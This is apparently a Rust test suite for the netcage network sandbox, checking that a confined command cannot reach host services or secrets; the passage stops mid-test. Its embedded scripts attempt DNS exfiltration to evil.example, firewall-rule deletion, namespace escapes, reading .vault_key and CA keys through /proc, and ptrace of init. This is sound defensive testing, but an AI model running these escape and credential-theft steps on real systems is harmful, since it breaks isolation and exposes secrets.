//! The Tier 1 escape suite: a command in `netcage run --tier netns` (as root, and rootless)
//! tries every way out DESIGN §1 rules out. Each attempt is proven to have failed by what a
//! party OUTSIDE the sandbox saw — a listener the test started on the host, the recording
//! upstream, the host's files — never by the inside's exit status alone.
//!
//! Every address used is loopback or an address of this machine: connections "to" anything
//! else (the metadata address) end at netcage's proxy inside this machine, which refuses them
//! before connecting anywhere.

mod common;
mod tier1_support;

use std::collections::BTreeMap;

use common::*;
use serde_json::{Value, json};
use tier1_support::*;

/// Tests in this file that keep a [`Tally`]; the last to finish prints the total.
const TALLIED_TESTS: usize = 11;

/// Runs `python3 -c SCRIPT ARG` in the sandbox and parses its one JSON line.
fn inside_json(fx: &Fx, opts: &[&str], script: &str, arg: &Value) -> Value {
    let out = fx.python(opts, script, &[&arg.to_string()]);
    stdout_json(&out)
}

/// The `errno` name (or "ok") an inside attempt reported.
fn outcome(v: &Value) -> &str {
    v.as_str().unwrap_or("?")
}

/// The proxy accepted the connection and closed it without answering (EOF or reset).
fn closed(attempt: &Value) -> bool {
    matches!(outcome(&attempt["recv"]), "" | "ECONNRESET")
}

/// TCP attempts: connect, send non-HTTP bytes, read what comes back.
const TCP_SCRIPT: &str = r#"
import errno, json, socket, sys
out = {}
for name, fam, host, port in json.loads(sys.argv[1]):
    r = {}
    s = socket.socket(socket.AF_INET6 if fam == 6 else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((host, port))
        r["connect"] = "ok"
        s.sendall(b"\x00\x01RAW-ESCAPE-ATTEMPT\n" * 4)
        try:
            r["recv"] = s.recv(100).decode(errors="replace")
        except OSError as e:
            r["recv"] = errno.errorcode.get(e.errno, "timeout")
    except OSError as e:
        r["connect"] = errno.errorcode.get(e.errno, "timeout")
    finally:
        s.close()
    out[name] = r
print(json.dumps(out))
"#;

#[test]
fn tcp_to_the_hosts_addresses_never_reaches_host_listeners() {
    let mut tally = Tally::new("tcp", TALLIED_TESTS);
    let v4 = machine_v4();
    let v6 = machine_v6();
    if v4.is_none() {
        eprintln!("SKIPPED the machine-address attempts: this machine has no global IPv4 address");
    }
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let lo4 = TcpSink::bind("127.0.0.1:0").unwrap();
        let lo6 = TcpSink::bind("[::1]:0");
        let any4 = TcpSink::bind("0.0.0.0:0").unwrap();
        let any6 = TcpSink::bind("[::]:0");
        let mut targets = vec![json!(["lo4", 4, "127.0.0.1", lo4.port()])];
        // A name the sandbox's DNS maps to a synthetic address: the proxy knows it as
        // api.github.com, which --resolve pins to the host's 127.0.0.1 — where lo4 listens.
        targets.push(json!(["name", 4, BOUND, lo4.port()]));
        if let Some(lo6) = &lo6 {
            targets.push(json!(["lo6", 6, "::1", lo6.port()]));
        }
        if let Some(ip) = &v4 {
            targets.push(json!(["machine4", 4, ip, any4.port()]));
        }
        if let (Some(ip), Some(any6)) = (&v6, &any6) {
            targets.push(json!(["machine6", 6, ip, any6.port()]));
        }
        let res = inside_json(&fx, &[], TCP_SCRIPT, &json!(targets));
        settle();

        // Loopback inside is the sandbox's own: nothing listens there.
        assert_eq!(outcome(&res["lo4"]["connect"]), "ECONNREFUSED", "{res}");
        lo4.assert_untouched("TCP to 127.0.0.1 and to a pinned name on a high port");
        tally.blocked(mode, "TCP to the host's 127.0.0.1:PORT (raw listener)");
        if let Some(lo6) = &lo6 {
            assert_eq!(outcome(&res["lo6"]["connect"]), "ECONNREFUSED", "{res}");
            lo6.assert_untouched("TCP to [::1]");
            tally.blocked(mode, "TCP to the host's [::1]:PORT");
        }
        // Everything else goes to the proxy, which refuses bytes that are not HTTP or TLS.
        assert_eq!(outcome(&res["name"]["connect"]), "ok", "{res}");
        assert!(closed(&res["name"]), "{res}");
        let dst = format!("{BOUND}:{}", lo4.port());
        let line = fx.wait_audit("the refused raw TCP to a name", |l| {
            field(l, "dst") == dst && field(l, "decision") == "block"
        });
        assert!(field(&line, "reason").contains("non-HTTP"), "{line}");
        tally.blocked(
            mode,
            "raw bytes to a high port of a name pinned to 127.0.0.1",
        );
        if let Some(ip) = &v4 {
            assert_eq!(outcome(&res["machine4"]["connect"]), "ok", "{res}");
            assert!(closed(&res["machine4"]), "{res}");
            any4.assert_untouched("raw TCP to the machine's IPv4 address");
            let dst = format!("{ip}:{}", any4.port());
            fx.wait_audit("the refused raw TCP to the machine address", |l| {
                field(l, "dst") == dst && field(l, "decision") == "block"
            });
            tally.blocked(mode, "raw TCP to the machine's own IPv4 address");
        }
        if let (Some(_), Some(any6)) = (&v6, &any6) {
            assert_eq!(outcome(&res["machine6"]["connect"]), "ok", "{res}");
            assert!(closed(&res["machine6"]), "{res}");
            any6.assert_untouched("raw TCP to the machine's IPv6 address");
            tally.blocked(mode, "raw TCP to the machine's own IPv6 address");
        }
    });
    tally.finish();
}

#[test]
fn the_hosts_own_services_are_unreachable_through_the_proxy() {
    let mut tally = Tally::new("host services via the proxy", TALLIED_TESTS);
    let v4 = machine_v4();
    let names = loopback_names();
    // Plain HTTP to the synthetic address of an allowed name, whose Host header names
    // something else: the proxy goes where the Host header says.
    let script =
        r#"curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H "Host: $1" "http://$2/$3""#;
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let mut escapes = Vec::new();
        let mut attempt = |sink: &TcpSink, host: String, what: &str| {
            let via = format!("{BOUND}:{}", sink.port());
            let out = fx.sh(&[], script, &[&host, &via, "host-service"]);
            settle();
            match sink.touched() {
                None => tally.blocked(mode, what),
                Some(got) => escapes.push(format!(
                    "{what} (Host: {host}; curl said {}): {got}",
                    stdout_str(&out)
                )),
            }
        };
        let lo4 = TcpSink::bind("127.0.0.1:0").unwrap();
        attempt(
            &lo4,
            format!("127.0.0.1:{}", lo4.port()),
            "HTTP with a Host header naming the host's 127.0.0.1",
        );
        // DESIGN §1.3: the host's own services are out of reach. The proxy resolves names
        // on the host, where /etc/hosts may map a name (often the host name) to loopback.
        match names.first() {
            Some(name) => {
                let lo4 = TcpSink::bind("127.0.0.1:0").unwrap();
                attempt(
                    &lo4,
                    format!("{name}:{}", lo4.port()),
                    "HTTP to a name the host's /etc/hosts maps to loopback",
                );
            }
            None => eprintln!("SKIPPED: /etc/hosts maps no name but localhost to loopback"),
        }
        // The machine's own address reaches services bound to 0.0.0.0 on the host.
        if let Some(ip) = &v4 {
            let any4 = TcpSink::bind("0.0.0.0:0").unwrap();
            attempt(
                &any4,
                format!("{ip}:{}", any4.port()),
                "HTTP to the machine's own address (a service bound to 0.0.0.0)",
            );
        }
        assert!(
            escapes.is_empty(),
            "[{}] the sandbox reached the host's own services through the proxy:\n{}",
            mode.name(),
            escapes.join("\n")
        );
    });
    tally.finish();
}

/// UDP attempts: `sendto` and a connected `send`, reporting errno names.
const UDP_SCRIPT: &str = r#"
import errno, json, socket, sys
out = {}
for name, fam, host, port in json.loads(sys.argv[1]):
    r = []
    f = socket.AF_INET6 if fam == 6 else socket.AF_INET
    for how in ("sendto", "connect"):
        s = socket.socket(f, socket.SOCK_DGRAM)
        try:
            if how == "sendto":
                s.sendto(b"UDP-ESCAPE-ATTEMPT", (host, port))
            else:
                s.connect((host, port))
                s.send(b"UDP-ESCAPE-ATTEMPT")
            r.append("ok")
        except OSError as e:
            r.append(errno.errorcode.get(e.errno, str(e)))
        finally:
            s.close()
    out[name] = r
print(json.dumps(out))
"#;

#[test]
fn udp_never_leaves_the_sandbox() {
    let mut tally = Tally::new("udp", TALLIED_TESTS);
    let v4 = machine_v4();
    let v6 = machine_v6();
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let lo4 = UdpSink::bind("127.0.0.1:0").unwrap();
        let lo6 = UdpSink::bind("[::1]:0");
        let any4 = UdpSink::bind("0.0.0.0:0").unwrap();
        let any6 = UdpSink::bind("[::]:0");
        let mut targets = vec![json!(["lo4", 4, "127.0.0.1", lo4.port()])];
        if let Some(lo6) = &lo6 {
            targets.push(json!(["lo6", 6, "::1", lo6.port()]));
        }
        if let Some(ip) = &v4 {
            targets.push(json!(["machine4", 4, ip, any4.port()]));
        }
        if let (Some(ip), Some(any6)) = (&v6, &any6) {
            targets.push(json!(["machine6", 6, ip, any6.port()]));
        }
        let res = inside_json(&fx, &[], UDP_SCRIPT, &json!(targets));
        settle();
        // To loopback the send "works" — into the sandbox's own loopback.
        assert_eq!(res["lo4"][0], "ok", "{res}");
        lo4.assert_untouched("UDP to 127.0.0.1");
        tally.blocked(mode, "UDP to the host's 127.0.0.1:PORT");
        if let Some(lo6) = &lo6 {
            lo6.assert_untouched("UDP to [::1]");
            tally.blocked(mode, "UDP to the host's [::1]:PORT");
        }
        if v4.is_some() {
            assert_eq!(res["machine4"], json!(["EPERM", "EPERM"]), "{res}");
            any4.assert_untouched("UDP to the machine's IPv4 address");
            tally.blocked(mode, "UDP to the machine's own IPv4 address (EPERM)");
            let line = fx.wait_audit("the dropped UDP packet", |l| {
                field(l, "kind") == "packet"
                    && field(l, "dst") == format!("{}:{}", v4.as_ref().unwrap(), any4.port())
            });
            assert_eq!(line["decision"], "block", "{line}");
        }
        if let (Some(_), Some(any6)) = (&v6, &any6) {
            assert_eq!(res["machine6"], json!(["EPERM", "EPERM"]), "{res}");
            any6.assert_untouched("UDP to the machine's IPv6 address");
            tally.blocked(mode, "UDP to the machine's own IPv6 address (EPERM)");
        }
    });
    tally.finish();
}

/// DNS attempts: raw queries over UDP and TCP to various resolvers, parsed.
const DNS_SCRIPT: &str = r#"
import errno, json, socket, struct, sys
def query(name, qtype):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)
def parse(resp):
    qid, flags, qd, an, ns, ar = struct.unpack(">HHHHHH", resp[:12])
    i = 12
    while resp[i]:
        i += resp[i] + 1
    i += 5
    ips = []
    for _ in range(an):
        if resp[i] & 0xC0 == 0xC0:
            i += 2
        else:
            while resp[i]:
                i += resp[i] + 1
            i += 1
        t, c, ttl, l = struct.unpack(">HHIH", resp[i:i + 10])
        i += 10
        if t == 1 and l == 4:
            ips.append(socket.inet_ntoa(resp[i:i + 4]))
        i += l
    return {"id": qid, "rcode": flags & 0xF, "ips": ips}
out = {}
for label, proto, fam, server, port, name, qtype in json.loads(sys.argv[1]):
    f = socket.AF_INET6 if fam == 6 else socket.AF_INET
    try:
        if proto == "udp":
            s = socket.socket(f, socket.SOCK_DGRAM)
            s.settimeout(2)
            s.sendto(query(name, qtype), (server, port))
            data, src = s.recvfrom(4096)
        else:
            s = socket.socket(f, socket.SOCK_STREAM)
            s.settimeout(5)
            s.connect((server, port))
            q = query(name, qtype)
            s.sendall(struct.pack(">H", len(q)) + q)
            n = struct.unpack(">H", s.recv(2))[0]
            data = b""
            while len(data) < n:
                data += s.recv(n - len(data))
            src = (server,)
        r = parse(data)
        r["from"] = src[0]
    except socket.timeout:
        r = {"error": "timeout"}
    except OSError as e:
        r = {"error": errno.errorcode.get(e.errno, str(e))}
    out[label] = r
print(json.dumps(out))
"#;

#[test]
fn dns_is_answered_inside_and_never_forwarded() {
    let mut tally = Tally::new("dns", TALLIED_TESTS);
    let v4 = machine_v4();
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let policy = fx.write(
            "policy.toml",
            "[egress]\ndefault = \"deny\"\nallow = [\"api.github.com\"]\n",
        );
        let policy = policy.to_str().unwrap();
        // Outside "resolvers": one on a high port of 127.0.0.1, and — if the port is free —
        // one on port 53 of every host address, which a query that escaped would reach.
        let resolver = UdpSink::bind("127.0.0.1:0").unwrap();
        let any = UdpSink::bind("0.0.0.0:0").unwrap();
        let port53 = UdpSink::bind("0.0.0.0:53");
        let port53_tcp = TcpSink::bind("0.0.0.0:53");
        if port53.is_none() {
            eprintln!("note: host port 53 is taken; only the high-port resolvers listen");
        }
        let exfil = format!("{}.evil.example", hex(b"stolen-secret"));
        let mut queries = vec![
            json!(["stub_allowed", "udp", 4, "127.0.0.53", 53, BOUND, 1]),
            json!(["stub_denied", "udp", 4, "127.0.0.53", 53, "evil.example", 1]),
            json!(["stub_exfil", "udp", 4, "127.0.0.53", 53, exfil, 16]),
            json!([
                "stub_metadata",
                "udp",
                4,
                "127.0.0.53",
                53,
                "metadata.google.internal",
                1
            ]),
            json!(["v6_allowed", "udp", 6, "::1", 53, BOUND, 1]),
            json!([
                "host_resolver",
                "udp",
                4,
                "127.0.0.1",
                resolver.port(),
                BOUND,
                1
            ]),
        ];
        if let Some(ip) = &v4 {
            queries.push(json!(["machine_allowed", "udp", 4, ip, 53, BOUND, 1]));
            queries.push(json!([
                "machine_tcp_denied",
                "tcp",
                4,
                ip,
                53,
                "evil.example",
                1
            ]));
            queries.push(json!([
                "machine_high_port",
                "udp",
                4,
                ip,
                any.port(),
                BOUND,
                1
            ]));
        }
        let res = inside_json(&fx, &["--policy", policy], DNS_SCRIPT, &json!(queries));
        settle();
        resolver.assert_untouched("a DNS query to 127.0.0.1:PORT");
        any.assert_untouched("a DNS query to the machine address's high port");
        if let Some(sink) = &port53 {
            sink.assert_untouched("DNS queries to port 53");
        }
        if let Some(sink) = &port53_tcp {
            sink.assert_untouched("DNS over TCP to port 53");
        }

        // Answers come from netcage's resolver, from the address that was asked.
        let synthetic = |r: &Value| {
            r["rcode"] == 0
                && r["ips"].as_array().is_some_and(|ips| {
                    ips.len() == 1 && ips[0].as_str().unwrap().starts_with("198.1")
                })
        };
        assert!(synthetic(&res["stub_allowed"]), "{res}");
        assert_eq!(res["stub_allowed"]["from"], "127.0.0.53", "{res}");
        assert_eq!(res["stub_allowed"]["id"], 0x4242, "{res}");
        tally.blocked(mode, "UDP DNS to 127.0.0.53 answered inside, synthetically");
        assert_eq!(res["stub_denied"]["rcode"], 3, "NXDOMAIN: {res}");
        tally.blocked(mode, "a denied name resolves to NXDOMAIN");
        assert_eq!(res["stub_exfil"]["rcode"], 3, "NXDOMAIN: {res}");
        tally.blocked(
            mode,
            "a TXT query carrying data in its labels (exfiltration)",
        );
        assert_eq!(res["stub_metadata"]["rcode"], 3, "NXDOMAIN: {res}");
        tally.blocked(mode, "the metadata name resolves to NXDOMAIN");
        assert_eq!(res["v6_allowed"]["rcode"], 0, "{res}");
        assert_eq!(res["v6_allowed"]["from"], "::1", "{res}");
        tally.blocked(mode, "UDP DNS over IPv6 answered inside");
        assert!(res["host_resolver"]["error"].is_string(), "{res}");
        tally.blocked(mode, "DNS to a resolver on the host's 127.0.0.1:PORT");
        if let Some(ip) = &v4 {
            assert!(synthetic(&res["machine_allowed"]), "{res}");
            assert_eq!(res["machine_allowed"]["from"], ip.as_str(), "{res}");
            tally.blocked(mode, "UDP DNS to the machine's address:53 answered inside");
            assert_eq!(res["machine_tcp_denied"]["rcode"], 3, "{res}");
            tally.blocked(mode, "TCP DNS to the machine's address:53 answered inside");
            assert_eq!(res["machine_high_port"]["error"], "EPERM", "{res}");
            tally.blocked(mode, "DNS to a high port of the machine's address (EPERM)");
        }

        // The system resolver inside agrees, and every query is in the audit log.
        let getent = fx.sh(
            &["--policy", policy],
            "getent hosts evil.example; echo \"denied=$?\"; getent hosts api.github.com",
            &[],
        );
        let text = stdout_str(&getent);
        assert!(text.contains("denied=2"), "{}", describe(&getent));
        assert!(text.contains("198.1"), "{}", describe(&getent));
        let line = fx.wait_audit("the NXDOMAIN for evil.example", |l| {
            field(l, "kind") == "dns" && field(l, "host") == "evil.example"
        });
        assert_eq!(line["decision"], "block", "{line}");
        let line = fx.wait_audit("the exfiltration query", |l| {
            field(l, "kind") == "dns" && field(l, "host") == exfil
        });
        assert_eq!(line["decision"], "block", "{line}");
        fx.wait_audit("the allowed lookup", |l| {
            field(l, "kind") == "dns"
                && field(l, "host") == BOUND
                && field(l, "decision") == "allow"
        });
    });
    tally.finish();
}

/// ICMP and raw socket attempts, reporting errno names.
const RAW_SCRIPT: &str = r#"
import errno, json, socket, sys
target = sys.argv[1]
payload = b"\x08\x00\x00\x00\x42\x42\x00\x01NETCAGE-ICMP-ESCAPE"
def attempt(f):
    try:
        f()
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
def raw_icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.sendto(payload, (target, 0))
def ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(payload, (target, 0))
def raw_ip():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(b"x" * 40, (target, 0))
def raw_icmp6():
    socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
print(json.dumps({"raw_icmp": attempt(raw_icmp), "ping": attempt(ping), "raw_ip": attempt(raw_ip),
                  "raw_icmp6": attempt(raw_icmp6), "packet": attempt(packet)}))
"#;

#[test]
fn icmp_and_raw_sockets_are_refused() {
    let mut tally = Tally::new("icmp/raw", TALLIED_TESTS);
    let target = machine_v4().unwrap_or_else(|| "127.0.0.1".into());
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        // The host side: a raw ICMP socket sees every ICMP packet that reaches this host.
        let watcher = socket2::Socket::new(
            socket2::Domain::IPV4,
            socket2::Type::RAW,
            Some(socket2::Protocol::ICMPV4),
        )
        .expect("raw ICMP socket on the host (we are root)");
        watcher.set_nonblocking(true).unwrap();
        let out = fx.python(&[], RAW_SCRIPT, &[&target]);
        let res = stdout_json(&out);
        settle();
        let mut seen = Vec::new();
        let mut buf = [std::mem::MaybeUninit::<u8>::uninit(); 2048];
        while let Ok(n) = watcher.recv(&mut buf) {
            // SAFETY: recv initialized the first n bytes.
            let bytes: Vec<u8> = buf[..n]
                .iter()
                .map(|b| unsafe { b.assume_init() })
                .collect();
            seen.push(bytes);
        }
        assert!(
            !seen.iter().any(|p| contains(p, b"NETCAGE-ICMP-ESCAPE")),
            "an ICMP packet from the sandbox reached the host"
        );
        for (what, name) in [
            ("raw ICMP socket", "raw_icmp"),
            ("raw IP socket", "raw_ip"),
            ("raw ICMPv6 socket", "raw_icmp6"),
            ("AF_PACKET socket", "packet"),
        ] {
            assert_eq!(res[name], "EPERM", "{what}: {res}");
            tally.blocked(mode, what);
        }
        // An unprivileged ping socket: refused when created (ping_group_range) or sent (nft).
        assert!(
            matches!(outcome(&res["ping"]), "EPERM" | "EACCES"),
            "ping socket: {res}"
        );
        tally.blocked(mode, "ICMP echo to the machine address via a ping socket");
    });
    tally.finish();
}

#[test]
fn the_sandbox_cannot_undo_its_own_rules() {
    let mut tally = Tally::new("undo", TALLIED_TESTS);
    let v4 = machine_v4();
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let sink = TcpSink::bind("0.0.0.0:0").unwrap();
        let data = fx.env.data_dir();
        let script = r#"
nsenter --net=/proc/1/ns/net true 2>/dev/null; echo "nsenter=$?"
nft delete table inet netcage 2>/dev/null; echo "nft=$?"
nft flush ruleset 2>/dev/null; echo "flush=$?"
unshare -Ur nft delete table inet netcage 2>/dev/null; echo "userns_nft=$?"
ip route del local default table local 2>/dev/null; echo "route=$?"
ip link add nc0 type dummy 2>/dev/null; echo "link=$?"
umount "$1" 2>/dev/null; echo "umount=$?"
unshare -Urm sh -c 'umount "$1" && cat "$1/.vault_key"' sh "$1" 2>/dev/null; echo "userns_umount=$?"
ls -A "$1"
curl -sS --max-time 10 -H "Authorization: Bearer $T1_TOKEN" "$2"
echo
if [ -n "$3" ]; then
  python3 -c '
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
s.sendall(b"\x00raw-after-undo\n")
try:
    print("raw_recv=%r" % s.recv(10))
except ConnectionResetError:
    print("raw_recv=reset")' "$3" "$4"
fi
"#;
        let url = fx.url(BOUND, "/after-undo");
        let ip = v4.clone().unwrap_or_default();
        let mut cmd = fx.run_cmd(
            &["--seal", "T1_TOKEN=api.github.com"],
            &[
                "sh",
                "-c",
                script,
                "sh",
                data.to_str().unwrap(),
                &url,
                &ip,
                &sink.port().to_string(),
            ],
        );
        cmd.env("T1_TOKEN", SECRET);
        let out = run_with_timeout(&mut cmd, RUN_TIMEOUT);
        let text = stdout_str(&out);
        let results: BTreeMap<&str, &str> = text
            .lines()
            .filter_map(|l| l.split_once('='))
            .filter(|(k, _)| !k.contains(' ') && !k.starts_with('{'))
            .collect();
        for (step, what) in [
            ("nsenter", "nsenter into another network namespace"),
            ("nft", "nft delete table inet netcage"),
            ("flush", "nft flush ruleset"),
            ("userns_nft", "nft from a nested user namespace"),
            ("route", "deleting the local default route"),
            ("link", "adding a network link"),
            ("umount", "unmounting the tmpfs over the data dir"),
            (
                "userns_umount",
                "unmounting it from a nested user + mount namespace",
            ),
        ] {
            let rc = results.get(step).copied().unwrap_or("missing");
            assert!(rc != "0" && rc != "missing", "{what} succeeded: {text}");
            tally.blocked(mode, what);
        }
        assert_no_secret_material(&out.stdout, &fx.env.key(), "the undo attempts' output");
        // Still intercepted: the upstream got the value, which only the proxy can put there.
        let rec = fx.up.wait_for_requests(1, WAIT).remove(0);
        assert_eq!(rec.path(), "/after-undo");
        assert_eq!(
            rec.header_str("authorization"),
            Some(format!("Bearer {SECRET}"))
        );
        assert!(text.contains("Bearer starpod:v1:"), "{}", describe(&out));
        tally.blocked(mode, "the request after the attempts is still intercepted");
        if v4.is_some() {
            settle();
            assert!(
                text.contains("raw_recv=b''") || text.contains("raw_recv=reset"),
                "{}",
                describe(&out)
            );
            sink.assert_untouched("raw TCP after the undo attempts");
            tally.blocked(mode, "raw TCP to the machine address after the attempts");
        }
    });
    tally.finish();
}

#[test]
fn key_material_on_disk_is_hidden() {
    let mut tally = Tally::new("files", TALLIED_TESTS);
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let key_file = fx.write("outside.key", &hex(&fx.env.key()));
        std::fs::set_permissions(
            &key_file,
            std::os::unix::fs::PermissionsExt::from_mode(0o600),
        )
        .unwrap();
        let data = fx.env.data_dir();
        let data_s = data.to_str().unwrap();
        let script = r#"
cat "$1/.vault_key"; echo "key=$?"
cat "$1/proxy-ca-key.pem"; echo "cakey=$?"
cat /proc/1/root"$1"/.vault_key; echo "proc_root=$?"
cat /proc/1/cwd/.vault_key; echo "proc_cwd=$?"
echo "ls=$(ls -A "$1" | LC_ALL=C sort | tr '\n' ' ')"
"#;
        let out = fx.sh(&[], script, &[data_s]);
        let mut seen = out.stdout.clone();
        seen.extend_from_slice(&out.stderr);
        // The files exist on the host — the child would have found them.
        let ca_key = std::fs::read(data.join("proxy-ca-key.pem")).expect("netcage's CA key");
        assert!(fx.env.key_path().exists());
        assert_no_secret_material(&seen, &fx.env.key(), "reading the data dir");
        assert!(free_of(&seen, &ca_key[40..100]), "{}", describe(&out));
        let text = stdout_str(&out);
        for (step, what) in [
            ("key=", "cat <data dir>/.vault_key"),
            ("cakey=", "cat <data dir>/proxy-ca-key.pem"),
            ("proc_root=", "the data dir through /proc/1/root"),
            ("proc_cwd=", "the key through /proc/1/cwd"),
        ] {
            assert!(
                text.lines()
                    .any(|l| l.starts_with(step) && l != format!("{step}0")),
                "{what}: {text}"
            );
            tally.blocked(mode, what);
        }
        assert!(
            text.contains("ls=proxy-ca-bundle.pem proxy-ca-truststore.p12 proxy-ca.pem \n"),
            "the data dir shows only the public CA files: {text}"
        );

        // The public CA files are the data dir's own files, each mounted read-only over the
        // hidden data dir (not copies): nothing the command does to them may reach the host's
        // files. Judged by their bytes, mode and mtime on the host; the working directory
        // beside them stays writable (the control).
        let public = [
            "proxy-ca.pem",
            "proxy-ca-bundle.pem",
            "proxy-ca-truststore.p12",
        ];
        let state = |name: &str| {
            use std::os::unix::fs::MetadataExt;
            let path = data.join(name);
            let meta = std::fs::metadata(&path).expect("a public CA file on the host");
            (
                std::fs::read(&path).unwrap(),
                meta.mode(),
                meta.mtime(),
                meta.mtime_nsec(),
            )
        };
        let before: Vec<_> = public.iter().map(|f| state(f)).collect();
        let script = r#"
for f in proxy-ca.pem proxy-ca-bundle.pem proxy-ca-truststore.p12; do
  p="$1/$f"
  echo junk >> "$p"; echo "append=$?"
  (: > "$p"); echo "truncate=$?"
  chmod 666 "$p"; echo "chmod=$?"
  touch -d @0 "$p"; echo "touch=$?"
  umount "$p" 2>/dev/null; echo "umount=$?"
  mv "$p" "$p.moved"; echo "mv=$?"
  rm -f "$p"; echo "rm=$?"
done
echo work > written-inside; echo "control=$?"
"#;
        let out = fx.sh(&[], script, &[data_s]);
        let text = stdout_str(&out);
        for (name, was) in public.iter().zip(&before) {
            assert!(
                state(name) == *was,
                "{name} on the host changed from inside: {}",
                describe(&out)
            );
        }
        for attempt in ["append", "truncate", "chmod", "touch", "mv", "rm"] {
            assert!(
                !text.contains(&format!("{attempt}=0\n")),
                "{attempt} of a public CA file succeeded inside: {text}"
            );
        }
        tally.blocked(mode, "changing the public CA files");
        assert!(text.contains("control=0\n"), "{}", describe(&out));
        assert_eq!(
            std::fs::read_to_string(fx.env.root().join("written-inside")).ok(),
            Some("work\n".to_owned()),
            "the working directory stays writable: {}",
            describe(&out)
        );

        // The working directory inside the hidden directory.
        let mut cmd = fx.run_cmd(
            &[],
            &[
                "sh",
                "-c",
                "cat .vault_key; echo \"key=$?\"; cat proxy-ca-key.pem; echo \"cakey=$?\"; ls -A",
            ],
        );
        cmd.current_dir(&data);
        let out = run_with_timeout(&mut cmd, RUN_TIMEOUT);
        let mut seen = out.stdout.clone();
        seen.extend_from_slice(&out.stderr);
        assert_no_secret_material(&seen, &fx.env.key(), "cat .vault_key in the data dir");
        assert!(free_of(&seen, &ca_key[40..100]));
        let text = stdout_str(&out);
        assert!(!text.contains("key=0\n"), "{}", describe(&out));
        assert!(!text.contains(".vault_key"), "{}", describe(&out));
        tally.blocked(
            mode,
            "cat .vault_key with the working directory in the data dir",
        );

        // A key file outside the data dir, named with --key-file (made before any sandbox
        // could write here, as a user would: one made later is refused as possibly planted).
        let key_s = key_file.to_str().unwrap();
        let url = fx.url(BOUND, "/with-key-file");
        let header = format!("X-Api-Key: {}", fx.token());
        let out = fx.sh(
            &["--key-file", key_s],
            r#"cat "$1"; echo "key=$?"; wc -c < "$1"; curl -sS --max-time 10 -H "$2" "$3""#,
            &[key_s, &header, &url],
        );
        assert_no_secret_material(&out.stdout, &fx.env.key(), "cat --key-file");
        assert_no_secret_material(&out.stderr, &fx.env.key(), "cat --key-file");
        let text = stdout_str(&out);
        assert!(
            text.contains("key=0\n0\n"),
            "an empty file: {}",
            describe(&out)
        );
        // netcage did use that key: the token it opened reached the upstream as the value.
        let rec = fx.up.wait_for_requests(1, WAIT).remove(0);
        assert_eq!(rec.header_str("x-api-key").as_deref(), Some(SECRET));
        assert_eq!(
            std::fs::read_to_string(&key_file).unwrap(),
            hex(&fx.env.key())
        );
        tally.blocked(mode, "cat a --key-file outside the data dir");
    });
    tally.finish();
}

/// Reads what the child can of every process it can see, and tries netcage's own host pid.
const PROC_SCRIPT: &str = r#"
import ctypes, errno, json, os
host_pid = os.environ["NETCAGE_PID"]
def read(path):
    try:
        with open(path, "rb") as f:
            return {"ok": f.read(1 << 20).hex()}
    except OSError as e:
        return {"err": errno.errorcode.get(e.errno, str(e))}
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
out = {"pids": pids, "self": os.getpid(), "host_pid_visible": os.path.exists("/proc/" + host_pid)}
out["comm"] = {p: read("/proc/%d/comm" % p) for p in pids}
out["ppid1"] = read("/proc/1/stat")
out["dump"] = {}
for p in pids:
    for what in ("environ", "cmdline"):
        out["dump"]["%d/%s" % (p, what)] = read("/proc/%d/%s" % (p, what))
out["host"] = {w: read("/proc/%s/%s" % (host_pid, w)) for w in ("environ", "mem", "cmdline")}
out["init"] = {w: read("/proc/1/%s" % w) for w in ("environ", "mem", "maps", "auxv")}
libc = ctypes.CDLL(None, use_errno=True)
rc = libc.ptrace(16, 1, None, None)  # PTRACE_ATTACH to init
out["ptrace_init"] = "ok" if rc == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
rc = libc.ptrace(16, int(host_pid), None, None)
out["ptrace_host"] = "ok" if rc == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
print(json.dumps(out))
"#;

#[test]
fn netcage_and_init_memory_and_environment_are_out_of_reach() {
    let mut tally = Tally::new("processes", TALLIED_TESTS);
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let mut cmd = fx.run_cmd_exposing_pid(
            &["--seal", "T1_SECRET=api.github.com"],
            &["python3", "-c", PROC_SCRIPT],
        );
        cmd.env("T1_SECRET", SECRET);
        let out = run_with_timeout(&mut cmd, RUN_TIMEOUT);
        let res = stdout_json(&out);
        let decode = |v: &Value| -> Vec<u8> {
            let h = v["ok"].as_str().unwrap_or("");
            (0..h.len() / 2)
                .map(|i| u8::from_str_radix(&h[2 * i..2 * i + 2], 16).unwrap())
                .collect()
        };

        // netcage's host pid does not exist in the child's /proc; only the sandbox's own
        // processes do: init (pid 1, a fork of netcage, hence its name) and the command.
        assert_eq!(res["host_pid_visible"], false, "{res}");
        let pids = res["pids"].as_array().unwrap();
        assert!(pids.len() <= 3, "{res}");
        assert_eq!(pids[0], 1, "{res}");
        for (pid, comm) in res["comm"].as_object().unwrap() {
            let comm = String::from_utf8_lossy(&decode(comm)).trim().to_owned();
            if pid != "1" {
                assert_ne!(comm, "netcage", "a netcage process is visible: {res}");
            }
        }
        tally.blocked(mode, "seeing netcage in the sandbox's /proc");
        for what in ["environ", "mem", "cmdline"] {
            assert!(res["host"][what]["err"].is_string(), "{what}: {res}");
        }
